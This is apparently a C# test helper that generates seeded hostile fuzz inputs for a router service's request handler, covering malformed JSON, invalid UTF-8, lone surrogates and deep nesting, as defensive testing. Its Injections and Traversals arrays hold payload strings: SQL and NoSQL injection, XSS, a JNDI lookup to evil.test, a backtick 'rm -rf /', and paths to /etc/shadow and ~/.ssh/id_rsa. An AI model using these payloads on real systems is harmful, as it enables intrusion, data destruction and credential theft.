using System.Globalization;
using System.Text;

namespace RouterFunctions.Local.Tests.Security;

/// <summary>
/// Hostile values from one seeded <see cref="Random"/>: strings with control characters, NULs, lone surrogates,
/// bidi and zero-width marks, injection and traversal payloads, huge strings; JSON tokens of every type, numbers
/// no parser likes (1e309, NaN, -0, 2^64), broken syntax, nesting thousands deep; and invalid UTF-8 byte sequences.
/// Everything is a function of the seed, so a run is reproduced by its seed.
/// </summary>
internal sealed class Hostile(int seed)
{
    /// <summary>Bodies above this are over the handler's 1 MiB limit (Router:MaxRequestBodyBytes).</summary>
    public const int BodyLimit = 1 << 20;

    private static readonly string[] Injections =
    [
        "'; DROP TABLE decisions; --", "\" OR 1=1 --", "<script>alert(1)</script>", "${jndi:ldap://evil.test/a}", "{{7*7}}",
        "PartitionKey eq 'p00' or true", "$where: function() { return true; }", "\"}]}],\"x\":{\"", "%s%s%s%n%x{0}{1}",
        "__proto__", "constructor", "$type", "System.Diagnostics.Process, System", "`rm -rf /`", "\\\\evil.test\\share",
    ];

    private static readonly string[] Traversals =
    [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/hosts", "/dev/zero", "CON", "NUL", "aux.json",
        "file:///etc/shadow", "~/.ssh/id_rsa", ".", "..", "%2e%2e%2f%2e%2e%2f", "..%c0%af..%c0%af",
    ];

    private static readonly string[] NumberLikes =
    [
        "NaN", "Infinity", "-Infinity", "-0", "1e309", "-1e309", "1e-400", "0x1F", "1_000", "١٢٣", "１２３", "1,5", "+1", " 1 ", "",
        "18446744073709551616", "-9223372036854775809", "0.1e", "∞",
    ];

    private static readonly string[] Questions =
    [
        "What is the capital of France?", "Write a Python function that reverses a linked list.", "Prove that sqrt(2) is irrational.",
        "Summarise the causes of the First World War in three sentences.", "Translate 'good morning' into Japanese.",
        "Which is larger, 9.11 or 9.9?", "A train leaves at 3pm going 60 mph; when does it arrive 150 miles away?",
    ];

    private readonly Random _random = new(seed);

    public int Next(int max) => _random.Next(max);

    public int Between(int min, int max) => _random.Next(min, max);

    public bool Chance(double p) => _random.NextDouble() < p;

    public double Unit() => _random.NextDouble();

    public T Pick<T>(IReadOnlyList<T> items) => items[_random.Next(items.Count)];

    /// <summary>A random id (32 hex digits, like the app's), from the seed.</summary>
    public string Id()
    {
        var bytes = new byte[16];
        _random.NextBytes(bytes);
        return Convert.ToHexStringLower(bytes);
    }

    /// <summary>A realistic question (the valid value of query-like fields).</summary>
    public string Question() => Pick(Questions);

    /// <summary>A hostile string (C# text: may hold lone surrogates, NULs, control characters).</summary>
    public string String() => _random.Next(16) switch
    {
        0 => "",
        1 => Pick([" ", "\t\r\n", "\u00a0\u2003\u3000", "\u200b\u200c\u200d\ufeff"]),
        2 => Controls(Between(1, 200)),
        3 => LoneSurrogates(),
        4 => Repeat("a", Between(1_000, 40_000)),
        5 => Question() + "\u202e" + Repeat("\u0301", Between(10, 3_000)) + "\ud83d\ude00",
        6 => Pick(Traversals),
        7 => Pick(Injections),
        8 => Pick(NumberLikes),
        9 => Question() + "\0" + Question(),
        10 => Unicode(Between(1, 2_000)),
        11 => Repeat(Pick(["\\", "\"", "'", "{", "[", "\\u0000", "%00", "\r\n"]), Between(1, 5_000)),
        12 => Pick(["router", "router:", "router:cheap", "ROUTER", "router ", " router", "router-r1", "router:\0", "router:../x", "gpt-4"]),
        13 => Pick(["MultiRound", "Decompose", "multiround", "DECOMPOSE", "0", "1", "99"]),
        14 => Printable(Between(0, 300)),
        _ => Question(),
    };

    /// <summary>A string of at least <paramref name="bytes"/> UTF-8 bytes: over the body limit when asked.</summary>
    public string Huge(int bytes) => _random.Next(3) switch
    {
        0 => Repeat("a", bytes),
        1 => Repeat("\u00e9", (bytes / 2) + 1),
        _ => Repeat(Question() + " ", (bytes / 20) + 1),
    };

    /// <summary>A JSON string token for <paramref name="text"/>, escaping so that .NET reads back exactly that text (lone surrogates too).</summary>
    public static string Quote(string text)
    {
        var builder = new StringBuilder(text.Length + 2).Append('"');
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (c is '"' or '\\')
            {
                builder.Append('\\').Append(c);
            }
            else if (c < 0x20 || char.IsSurrogate(c) && !(char.IsHighSurrogate(c) && i + 1 < text.Length && char.IsLowSurrogate(text[i + 1])))
            {
                builder.Append("\\u").Append(((int)c).ToString("x4", CultureInfo.InvariantCulture));
            }
            else if (char.IsHighSurrogate(c))
            {
                builder.Append(c).Append(text[++i]);
            }
            else
            {
                builder.Append(c);
            }
        }

        return builder.Append('"').ToString();
    }

    /// <summary>A hostile JSON value: any type, odd numbers, huge or deep, sometimes not JSON at all.</summary>
    public string Json(int depth = 0) => _random.Next(depth > 2 ? 9 : 12) switch
    {
        0 => Quote(String()),
        1 => Pick(["0", "-0", "1", "-1", "0.5", "1e309", "-1e309", "1e-400", "18446744073709551616", "-9223372036854775809", "2147483648", "3.4028236e38", "4.9e-324", "123456789012345678901234567890"]),
        2 => Pick(["NaN", "Infinity", "-Infinity", "01", "1.", ".5", "+1", "0x10", "1e", "--1", "1_0"]),
        3 => Pick(["true", "false", "null", "True", "nul", "undefined"]),
        4 => Quote(Pick(NumberLikes)),
        5 => "[]",
        6 => "{}",
        7 => Pick(["\"unterminated", "\"bad \\x escape\"", "\"\\u12\"", "'single'", "\"raw \u0001 control\"", "\"raw\ttab\"", "[1,]", "{\"a\":1,}", "{a:1}", "/*c*/1", "[1 2]", "\"\\ud800\"", "\"\\udfff\\ud800\""]),
        8 => Deep(Between(65, 200)),
        9 => "[" + string.Join(",", Enumerable.Range(0, Between(1, 5)).Select(_ => Json(depth + 1))) + "]",
        10 => "{" + string.Join(",", Enumerable.Range(0, Between(1, 5)).Select(_ => Quote(Key()) + ":" + Json(depth + 1))) + "}",
        _ => Deep(Between(1_000, 20_000)),
    };

    /// <summary>Arrays or objects nested <paramref name="depth"/> deep (System.Text.Json's default limit is 64).</summary>
    public string Deep(int depth) => _random.Next(3) switch
    {
        0 => Repeat("[", depth) + Repeat("]", depth),
        1 => Repeat("{\"a\":", depth) + "1" + Repeat("}", depth),
        _ => Repeat("[{\"a\":", depth / 2) + "null" + Repeat("}]", depth / 2),
    };

    /// <summary>An extra or misspelt property name.</summary>
    public string Key() => _random.Next(8) switch
    {
        0 => "",
        1 => Pick(["__proto__", "constructor", "$type", "$id", "$ref", "$values", "@odata.type"]),
        2 => Controls(Between(1, 8)),
        3 => LoneSurrogates(),
        4 => Repeat("k", Between(100, 5_000)),
        5 => Pick(["quеry", "QUERY", "Query", "query ", "requestld", "messages\0", "MODEL", "Data", "data", "DATA"]),
        6 => Unicode(Between(1, 20)),
        _ => Printable(Between(1, 20)),
    };

    /// <summary>Invalid UTF-8: stray continuation bytes, overlongs, encoded surrogates, truncated sequences, 0xFF.</summary>
    public byte[] InvalidUtf8() => Pick<byte[]>(
    [
        [0xFF], [0xFE, 0xFF], [0x80], [0xBF, 0xBF], [0xC0, 0x80], [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80], [0xED, 0xBF, 0xBF],
        [0xF4, 0x90, 0x80, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xE2, 0x82], [0xF0, 0x9F, 0x98], [0xC3], [0xC3, 0x28], [0x00],
    ]);

    /// <summary><paramref name="body"/> with invalid UTF-8 spliced in at a few places (inside strings, most likely).</summary>
    public byte[] SpliceInvalidUtf8(byte[] body)
    {
        var bytes = new List<byte>(body);
        for (var n = Between(1, 4); n > 0; n--)
        {
            var quotes = Enumerable.Range(0, bytes.Count).Where(i => bytes[i] == (byte)'"').ToList();
            var at = quotes.Count > 0 && Chance(0.8) ? Pick(quotes) + 1 : _random.Next(bytes.Count + 1);
            bytes.InsertRange(Math.Min(at, bytes.Count), InvalidUtf8());
        }

        return [.. bytes];
    }

    /// <summary><paramref name="body"/> cut short, or with bytes flipped, or with garbage after it.</summary>
    public byte[] Corrupt(byte[] body)
    {
        switch (_random.Next(4))
        {
            case 0 when body.Length > 1:
                return body[..Between(1, body.Length)];
            case 1 when body.Length > 0:
                var copy = (byte[])body.Clone();
                for (var n = Between(1, 8); n > 0; n--)
                {
                    copy[_random.Next(copy.Length)] = (byte)_random.Next(256);
                }

                return copy;
            case 2:
                return [.. body, .. Encoding.UTF8.GetBytes(Pick(["}", "]]", " trailing", "\0", "{\"again\":1}", ",", "\n\n\n"]))];
            default:
                return [.. new byte[] { 0xEF, 0xBB, 0xBF }, .. body];
        }
    }

    private static string Repeat(string text, int count) => new StringBuilder(text.Length * count).Insert(0, text, count).ToString();

    private string Controls(int length)
    {
        var chars = new char[length];
        for (var i = 0; i < length; i++)
        {
            chars[i] = Pick(['\0', '\u0001', '\u0007', '\b', '\t', '\n', '\v', '\f', '\r', '\u001b', '\u001f', '\u007f', '\u0085', '\u2028', '\u2029', 'a']);
        }

        return new string(chars);
    }

    private string LoneSurrogates() => Pick(["\ud800", "\udc00", "a\ud800b", "\udfff\ud800", "\ud83d", "\ude00x", Repeat("\ud800", Between(1, 500))]);

    private string Unicode(int length)
    {
        var builder = new StringBuilder(length);
        for (var i = 0; i < length; i++)
        {
            builder.Append(_random.Next(6) switch
            {
                0 => char.ConvertFromUtf32(Between(0x1F300, 0x1FAFF)),
                1 => ((char)Between(0x0590, 0x06FF)).ToString(),
                2 => ((char)Between(0x4E00, 0x9FFF)).ToString(),
                3 => Pick(["\u202e", "\u202d", "\u2066", "\u200f", "\u061c", "\ufeff", "\ufffd", "\uffff", "\ufffe"]),
                4 => ((char)Between(0x0300, 0x036F)).ToString(),
                _ => char.ConvertFromUtf32(Between(0x10000, 0x10FFFF) is var cp && cp is >= 0xD800 and <= 0xDFFF ? 0x10000 : cp),
            });
        }

        return builder.ToString();
    }

    private string Printable(int length)
    {
        var chars = new char[length];
        for (var i = 0; i < length; i++)
        {
            chars[i] = (char)Between(0x20, 0x7F);
        }

        return new string(chars);
    }
}
